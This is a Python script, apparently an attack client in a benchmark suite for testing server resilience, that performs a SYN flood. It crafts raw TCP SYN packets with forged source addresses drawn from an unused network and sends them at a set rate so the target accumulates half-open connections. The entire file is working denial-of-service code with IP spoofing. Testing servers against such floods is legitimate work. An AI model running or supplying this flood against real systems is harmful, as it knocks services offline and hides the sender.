"""Connections that are begun and never made: ``half_open address= port= network= rate= seconds=``.

SYNs through a raw socket (raw(7)), from addresses of a network that nobody has: what the server answers is lost, so it
waits. Prints ``sending`` at the beginning and ``sent`` at the end.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import time

from benchmarks.abuse.clients.speech import arguments, say

_BATCH = 20
"""SYNs at a time: a thousand wake-ups a second are enough."""
_SYN = 0x02


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, source_port: int, target: bytes, port: int, sequence: int) -> bytes:
    """An IPv4 packet with a SYN (RFC 791 3.1, RFC 9293 3.1); the kernel fills in the IP checksum (raw(7))."""
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, _SYN, 64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + checksum(pseudo + tcp).to_bytes(2, "big") + tcp[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0)
    return head + source + target + tcp


def main(address: str, port: int, network: str, rate: float, seconds: float) -> None:
    """Send for ``seconds``, then say how many."""
    chance = random.Random(rate)
    sources = ipaddress.IPv4Network(network)
    first, size = int(sources.network_address), sources.num_addresses
    target = socket.inet_aton(address)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    say(sending=rate)
    began = time.monotonic()
    sent = 0
    while (now := time.monotonic()) < began + seconds:
        while sent < (now - began) * rate:
            source = (first + chance.randrange(size)).to_bytes(4, "big")
            raw.sendto(syn(source, chance.randrange(1024, 65536), target, port, chance.getrandbits(32)), (address, 0))
            sent += 1
        time.sleep(_BATCH / rate)
    say(sent=sent)


if __name__ == "__main__":
    _given = arguments()
    main(_given["address"], int(_given["port"]), _given["network"], float(_given["rate"]), float(_given["seconds"]))
